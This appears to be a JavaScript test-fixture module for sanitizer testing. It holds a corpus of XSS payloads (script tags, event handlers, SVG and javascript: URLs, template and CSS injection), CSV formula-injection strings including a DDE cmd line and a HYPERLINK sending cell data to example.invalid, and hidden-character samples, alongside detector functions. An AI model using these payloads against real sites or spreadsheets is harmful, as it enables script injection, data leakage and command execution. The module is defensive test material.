// Texts that try to be more than text. Each that runs sets window.__xss.
const run = 'window.__xss=1';

const scripts = [
  `<script>${run}</script>`, `<ScRiPt>${run}</sCrIpT>`, `"><script>${run}</script>`, `'><script>${run}</script>`, `</title><script>${run}</script>`, `</textarea><script>${run}</script>`,
  `</style><script>${run}</script>`, `<script src=data:text/javascript,${run}></script>`, `<script src="//example.invalid/x.js"></script>`, `<<script>${run}//<</script>`, `<script>${run}<!--`, `--><script>${run}</script>`,
  `]]><script>${run}</script>`, `</script><script>${run}</script>`, `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
];

const handlers = [
  `<img src=x onerror=${run}>`, `<img src=x onerror="${run}">`, `"><img src=x onerror=${run}>`, `' onmouseover='${run}`, `" onfocus="${run}" autofocus="`, `" onclick="${run}`, '` onload=`' + run + '`', `<body onload=${run}>`, `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>`, `<video><source onerror=${run}></video>`, `<audio src=x onerror=${run}>`, `<marquee onstart=${run}>`, `<select autofocus onfocus=${run}>`, `<a onmouseenter=${run}>here</a>`, `<div onpointerover=${run}>here</div>`,
];

const vectors = [
  `<svg onload=${run}>`, `<svg><script>${run}</script></svg>`, `<svg><animate onbegin=${run} attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:${run}"><text y=9>here</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.__xss=1</script>"></foreignObject></svg>`, `<math><mtext><mglyph><style><img src=x onerror=${run}>`, `<iframe src="javascript:parent.__xss=1">`, `<iframe srcdoc="<script>parent.__xss=1</script>">`, `<object data="javascript:${run}">`, `<embed src="javascript:${run}">`,
  `<base href="//example.invalid/">`, `<meta http-equiv=refresh content="0;url=javascript:${run}">`, `<link rel=stylesheet href="//example.invalid/x.css">`, `<form action="javascript:${run}"><button>here</button></form>`, `<template><script>${run}</script></template>`,
];

const links = [`javascript:${run}`, `JaVaScRiPt:${run}`, `java\tscript:${run}`, ` javascript:${run}`, `javascript://%0a${run}`, `data:text/html,<script>${run}</script>`, `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==`, `vbscript:${run}`, `[here](javascript:${run})`, `![x](x"onerror="${run})`, `<javascript:${run}>`];

const templates = [`{{constructor.constructor('${run}')()}}`, '${' + run + '}', `<%= ${run} %>`, `#{${run}}`, `{{ ${run} }}`, `{%25 ${run} %25}`, `$(${run})`];

const styles = ['</style><style>*{display:none}</style>', '"; background:url(//example.invalid/x)', 'x{}*{background:url(javascript:window.__xss=1)}', '" style="position:fixed;inset:0" x="', 'expression(window.__xss=1)'];

const entities = [`&lt;script&gt;${run}&lt;/script&gt;`, `&#60;img src=x onerror=${run}&#62;`, `&#x3c;svg onload=${run}&#x3e;`, `&quot; onclick=&quot;${run}`, `\\u003cscript\\u003e${run}\\u003c/script\\u003e`, `%3Cscript%3E${run}%3C/script%3E`, '&amp;amp;<&', `'"\`\\/<>&`];

/** What a spreadsheet would run, were it the beginning of a cell. */
const formulas = ['=HYPERLINK("http://example.invalid/?"&A1,"here")', "=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0", '@SUM(1+1)*cmd', '\t=1+1', '=1+1;<script>window.__xss=1</script>'];

/** Texts that hide, or that make others change places. */
export const hiding = ['pay\u202ements', '\u202egnp.egami', 'abc\u2066\u2067def\u2069', 'zero\u200bwidth', 'zero\u200dwidth', '\ufeffbom', 'soft\u00adhyphen', '\u200e\u200fmarks', 'bell\u0007 and \u001b[31mred', 'tags\u{e0041}\u{e0042}', 'line\u2028break', 'אבג 123 (x)'];

/** Everything; all differ, none is empty, each fits where 256 bytes do. */
export const hostile = [...scripts, ...hiding, ...handlers, ...vectors, ...links, ...templates, ...styles, ...entities, ...formulas];

export const long = `<img src=x onerror=${run}>`.repeat(30);

/** In the page, before its scripts: dialogs and the policy's complaints are written down. */
export const watch = () => {
  window.__violations = [];
  document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => window.__violations.push(`${violatedDirective} ${blockedURI}`));
};

/** What of a document is more than text: none of it may be there. */
export const findings = () => {
  const found = [], here = location.origin, say = (what, element) => found.push(`${what}: ${element.outerHTML.slice(0, 160)}`);
  if (window.__xss) found.push('a script ran');
  for (const what of window.__violations ?? []) found.push(`policy: ${what}`);
  for (const element of document.querySelectorAll('*')) {
    const tag = element.localName;
    if (['iframe', 'object', 'embed', 'base', 'template', 'foreignobject', 'animate', 'marquee', 'math', 'video', 'audio', 'frame', 'applet'].includes(tag)) say('element', element);
    if (tag === 'script' && !(element.src && new URL(element.src).origin === here)) say('script', element);
    if (tag === 'meta' && element.httpEquiv) say('meta', element);
    if (tag === 'form' && element.hasAttribute('action')) say('form', element);
    for (const { name, value } of element.attributes) {
      if (/^on/.test(name)) say(`attribute ${name}`, element);
      if (/^(href|src|xlink:href|action|formaction|data|srcdoc)$/.test(name) && /^[\s\u0000-\u001f]*(javascript|vbscript|data:text)/i.test(value)) say(`link ${name}`, element);
    }
  }
  return found;
};

/** Characters that cannot be seen, in what is shown; what fields hold stays as it was. */
export const unseen = () => {
  const walker = document.createTreeWalker(document.body ?? document.documentElement, NodeFilter.SHOW_TEXT), found = [];
  const hidden = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff]/;
  while (walker.nextNode()) if (hidden.test(walker.currentNode.data) && !walker.currentNode.parentElement?.closest('style, script, textarea')) found.push(`unseen in <${walker.currentNode.parentElement?.outerHTML.slice(0, 120)}>`);
  return found;
};

/** The cells of a CSV file that a spreadsheet would run. */
export function formulasIn(csv) {
  const cells = [...csv.matchAll(/(?:^|,|\r?\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)].map(([, quoted, plain]) => quoted ?? plain);
  return cells.filter((cell) => /^[=+\-@\t\r\n]/.test(cell) && !/^[+-]?\d+(\.\d+)?(e[+-]?\d+)?$/.test(cell));
}
